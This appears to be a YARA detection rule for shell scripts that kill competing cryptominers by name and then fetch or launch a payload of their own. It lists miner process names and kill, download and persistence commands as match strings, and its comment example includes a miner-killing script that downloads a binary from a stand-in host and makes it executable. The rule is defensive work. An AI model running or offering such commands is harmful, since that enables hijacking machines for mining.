rule rival_killer_script : script
{
    meta:
        title = "carry a script that kills other people's miners"
        explanation = "A script ends a list of programs that only rival intruders run, and brings something of its own. Attackers do this to have the machine for themselves; nothing that an image is normally for needs it. Look at what the script starts afterwards."
        class = "malware"
        severity = "high"
        confidence = "medium"
        attack = "T1489"
        reference = "https://attack.mitre.org/techniques/T1489/"
    strings:
        $rival_kinsing = "kinsing"
        $rival_kdev = "kdevtmpfsi"
        $rival_xmrig = "xmrig"
        $rival_stak = "xmr-stak"
        $rival_minerd = "minerd"
        $rival_night = "cryptonight"
        $rival_ddgs = "ddgs"
        $rival_watchbog = "watchbog"
        $rival_thread = "kthreaddk"
        $rival_solrd = "solrd"
        $rival_guard = "sysguard"
        $rival_net = "networkservice"
        $rival_java = "javaupd"
        $rival_dbused = "dbused"
        $rival_pool = "minexmr"
        $rival_zigw = "zigw"
        $rival_qw3 = "qW3xT"
        $rival_biosetjenkins = "biosetjenkins"
        $kill_pkill = "pkill -f"
        $kill_pkill9 = "pkill -9"
        $kill_nine = "kill -9"
        $kill_all = "killall"
        $kill_xargs = "xargs kill"
        $own_curl = "curl "
        $own_wget = "wget "
        $own_python = "urllib"
        $own_tcp = "/dev/tcp/"
        $own_nohup = "nohup "
        $own_cron = "crontab"
        $own_mode = "chmod "
        $own_decode = "base64 -d"
        $own_config = "config.json"
    condition:
        filesize < 256KB and uint16(0) == 0x2123 and 1 of ($kill_*) and 4 of ($rival_*) and 1 of ($own_*)
}

/* example: fires on a list of rivals
    FILE /tmp/init.sh 0755
        #!/bin/sh
        pkill -f kinsing
        pkill -f kdevtmpfsi
        pkill -f watchbog
        ps aux | grep ddgs | awk '{print $2}' | xargs kill -9
        pkill -f xmr-stak
        curl -fsSL http://192.0.2.5/own -o /tmp/own && chmod +x /tmp/own
*/
/* example: quiet on a list of names without a kill, on a responder's tool and on a script that ends its own worker
    FILE /usr/bin/minerkill 0755
        #!/bin/sh
        for n in kinsing kdevtmpfsi watchbog ddgs xmrig; do
          pid=$(pgrep -x $n) && [ "$1" = "--kill" ] && kill -9 $pid
        done
    FILE /etc/ids/names.sh 0755
        #!/bin/sh
        NAMES="kinsing kdevtmpfsi watchbog ddgs xmrig"
    FILE /usr/bin/stop.sh 0755
        #!/bin/sh
        pkill -f networkservice
*/
